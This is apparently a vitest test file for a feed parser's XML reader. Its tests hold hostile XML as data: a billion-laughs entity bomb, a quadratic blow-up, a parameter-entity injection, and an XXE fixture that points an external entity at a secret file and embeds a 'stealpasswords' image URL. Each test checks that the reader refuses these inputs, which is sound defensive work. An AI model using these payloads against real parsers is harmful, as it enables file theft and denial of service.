import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { ParseError } from '@competencyworks/core';
import { describe, expect, it } from 'vitest';
import { parseAny } from '../parseAny';
import { parseRss } from '../parseRss';
import { streamRss } from '../streamRss';
import { MAX_ENTITY_EXPANSION } from './xmlEntities';
import { Capture, XmlReader } from './xmlReader';

const fixture = (path: string) =>
  new Uint8Array(readFileSync(new URL(`../../test/fixtures/${path}`, import.meta.url)));

interface Read {
  /** Text of every `<t>` element, attribute `a` of every element that has one. */
  texts: string[];
  attrs: string[];
  warnings: { code: string | undefined; message: string; line: number }[];
}

/** Reads a document with a handler that captures the text of `<t>` and attribute `a`. */
function read(document: string, chunkSize = document.length): Read {
  const out: Read = { texts: [], attrs: [], warnings: [] };
  const reader = new XmlReader({
    open: (element) => {
      if (element.attrs.a !== undefined) out.attrs.push(element.attrs.a);
      return element.local === 't' ? Capture.Text : Capture.None;
    },
    close: (element, text) => {
      if (element.local === 't') out.texts.push(text);
    },
    warn: (message, line, _column, code) => out.warnings.push({ code, message, line }),
  });
  for (let at = 0; at < document.length; at += Math.max(chunkSize, 1)) {
    reader.write(document.slice(at, at + Math.max(chunkSize, 1)));
  }
  reader.end();
  return out;
}

function thrown(fn: () => unknown): ParseError {
  try {
    fn();
  } catch (error) {
    if (error instanceof ParseError) return error;
    throw error;
  }
  throw new Error('expected a ParseError');
}

const LAUGHS = Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
).join('\n');
const BILLION_LAUGHS = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n${LAUGHS}\n]>\n<r><t>&lol9;</t></r>`;

describe('XmlReader with an internal DTD subset', () => {
  it('expands internal entities in text and attributes, character references at declaration', () => {
    const document = `<?xml version="1.0"?>
<!-- a comment first -->
<!DOCTYPE r [
  <!ELEMENT r ANY>
  <!ATTLIST r a CDATA #IMPLIED>
  <!-- declarations of other kinds and comments are skipped -->
  <?pi data?>
  <!ENTITY site "CompetencyWorks">
  <!ENTITY both 'the &site; blog &#233;'>
  <!ENTITY brackets "a ] and a > inside">
  <!ENTITY site "declared twice: the first binds">
]>
<r><t>&both; &amp; &brackets;</t><x a="https://example.org/&site;/"/></r>`;
    const result = read(document);
    expect(result.texts).toEqual(['the CompetencyWorks blog é & a ] and a > inside']);
    expect(result.attrs).toEqual(['https://example.org/CompetencyWorks/']);
    expect(result.warnings).toEqual([]);
  });

  it('follows the XML specification on double escaping (appendix D)', () => {
    const document = `<!DOCTYPE r [
<!ENTITY example "<p>An ampersand (&#38;#38;) may be escaped numerically (&#38;#38;#38;) or with a general entity (&amp;amp;).</p>" >
]><r><t>&example;</t></r>`;
    expect(read(document).texts).toEqual([
      '<p>An ampersand (&) may be escaped numerically (&#38;) or with a general entity (&amp;).</p>',
    ]);
  });

  it('decodes the HTML named entities feeds use without declaring them', () => {
    const document =
      '<r><t>&nbsp;caf&eacute; &rsquo;&hellip;&mdash; &#8211; &#x20AC; &unknown;</t></r>';
    expect(read(document).texts).toEqual(['\u00A0café ’…— – € &unknown;']);
  });

  it('reads a DOCTYPE cut into one-character chunks as it reads it whole', () => {
    const document = `<!DOCTYPE r [ <!ENTITY e "expanded"> <!-- ]> --> ]>\n<r><t>&e;</t></r>`;
    expect(read(document, 1)).toEqual(read(document));
    expect(read(document, 1).texts).toEqual(['expanded']);
  });

  it('stops billion laughs with a typed error, having built at most the budget', () => {
    const error = thrown(() => read(BILLION_LAUGHS));
    expect(error.code).toBe('entity-expansion-limit');
    expect(error.message).toContain(MAX_ENTITY_EXPANSION.toLocaleString('en-US'));
    expect(error.line).toBe(14);
  });

  it('stops quadratic blow-up (one long entity used many times) with the same error', () => {
    const long = 'x'.repeat(100_000);
    const document = `<!DOCTYPE r [<!ENTITY a "${long}">]><r><t>${'&a;'.repeat(200)}</t></r>`;
    expect(thrown(() => read(document)).code).toBe('entity-expansion-limit');
    // The same entity used within the budget is fine.
    expect(read(document.replace('&a;'.repeat(200), '&a;'.repeat(3))).texts[0]).toHaveLength(
      300_000,
    );
  });

  it('refuses an entity that refers to itself', () => {
    const document = '<!DOCTYPE r [<!ENTITY a "1&b;"><!ENTITY b "2&a;">]><r><t>&a;</t></r>';
    expect(thrown(() => read(document)).code).toBe('entity-loop');
  });

  it('does not expand parameter entities, and says so', () => {
    const document = `<!DOCTYPE r [
<!ENTITY % inner "<!ENTITY injected 'from a parameter entity'>">
%inner;
]><r><t>&injected;</t></r>`;
    const result = read(document);
    expect(result.texts).toEqual(['&injected;']);
    expect(result.warnings.map((w) => [w.code, w.line])).toEqual([
      ['parameter-entity', 2],
      ['parameter-entity', 3],
    ]);
  });

  it('reports an unterminated DOCTYPE as malformed XML, and still refuses HTML', () => {
    const open = thrown(() => read('<!DOCTYPE r [ <!ENTITY a "b">\n'));
    expect(open.code).toBe('malformed-xml');
    expect(open.message).toBe('2:1: the input ended inside the DOCTYPE declaration');
    expect(thrown(() => read('<!DOCTYPE html>\n<html></html>')).message).toBe(
      '1:1: found an HTML page (<!DOCTYPE html>), expected a feed; use the feed URL',
    );
  });
});

describe('external entities are never fetched or read', () => {
  it('leaves a file: entity unexpanded and reports it (feedvalidator system_entity.xml)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-xxe-'));
    try {
      const secret = join(dir, 'secret.txt');
      writeFileSync(secret, 'TOP-SECRET-VALUE');
      const document = new TextDecoder()
        .decode(fixture('dtd/system_entity.xml'))
        .replace('file:c:/boot.ini', pathToFileURL(secret).href);
      const result = read(
        document.replace(/<description>/, '<t>').replace(/<\/description>/, '</t>'),
      );
      expect(result.texts).toEqual([
        '<img src="http://www.example.com/spacer.gif?stealpasswords=&passwordfile;">',
      ]);
      expect(JSON.stringify(result)).not.toContain('TOP-SECRET');
      expect(result.warnings).toEqual([
        {
          code: 'external-entity',
          message: `the external entity &passwordfile; (SYSTEM "${pathToFileURL(secret).href}") is never fetched or read; its references are left as written`,
          line: 13,
        },
      ]);
    } finally {
      rmSync(dir, { recursive: true });
    }
  });

  it('makes no request for an http entity or an external DTD (system_entity_http.xml)', async () => {
    let requests = 0;
    const server = createServer((_request, response) => {
      requests++;
      response.end('<!ENTITY injected "fetched">');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const address = server.address();
      const port = typeof address === 'object' && address ? address.port : 0;
      const url = `http://127.0.0.1:${port}/ping`;
      const document = new TextDecoder()
        .decode(fixture('dtd/system_entity_http.xml'))
        .replace('http://localhost/ping', url)
        .replace('<!DOCTYPE rss', `<!DOCTYPE rss SYSTEM "${url}.dtd"`)
        .replace(']>', `<!ENTITY % remote SYSTEM "${url}.ent"> %remote; ]>`);
      const { issues } = parseRss(document);
      const streamed = streamRss(
        (async function* () {
          yield new TextEncoder().encode(document);
        })(),
      );
      for await (const _ of streamed);
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(requests).toBe(0);
      expect(issues.map((issue) => issue.code)).toEqual(
        expect.arrayContaining(['external-entity', 'parameter-entity']),
      );
    } finally {
      server.close();
    }
  });
});

describe('feeds with a DOCTYPE through the public readers', () => {
  const feed = `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [
  <!ENTITY blog "CompetencyWorks">
  <!ENTITY odd "a ] bracket">
]>
<rss version="2.0"><channel><title>&blog;</title>
<item><title>Mastery at &blog; &ndash; &odd;</title><link>https://example.org/&blog;/1</link></item>
</channel></rss>`;

  it('sniffs and reads them, expanding the entities', () => {
    const { sniffed, posts, issues } = parseAny(feed);
    expect(sniffed.format).toBe('rss');
    expect(issues).toEqual([]);
    expect(posts.map((post) => [post.title, post.url])).toEqual([
      ['Mastery at CompetencyWorks – a ] bracket', 'https://example.org/CompetencyWorks/1'],
    ]);
  });

  it('streams them in one-byte chunks exactly as they are read whole', async () => {
    const bytes = new TextEncoder().encode(feed);
    const stream = streamRss(
      (async function* () {
        for (const byte of bytes) yield new Uint8Array([byte]);
      })(),
    );
    const posts = [];
    for await (const post of stream) posts.push(post);
    expect(posts).toEqual(parseRss(bytes).posts);
  });

  it('keeps the posts before an entity blow-up, with the error as an issue', () => {
    const document = BILLION_LAUGHS.replace(
      '<r><t>&lol9;</t></r>',
      '<rss version="2.0"><channel><item><title>Kept</title></item><item><title>&lol9;</title></item></channel></rss>',
    );
    const { posts, issues } = parseRss(document);
    expect(posts.map((post) => post.title)).toEqual(['Kept']);
    expect(issues.map((issue) => [issue.code, issue.severity, issue.line])).toEqual([
      ['entity-expansion-limit', 'error', 14],
    ]);
  });

  it('reads Netscape RSS 0.91 with its external DTD unread and HTML entities decoded', () => {
    const { posts, issues } = parseRss(fixture('dtd/rss91n_entity.xml'));
    expect(issues).toEqual([]);
    expect(posts[0]?.title).toBe('Und tschüss.');
  });
});
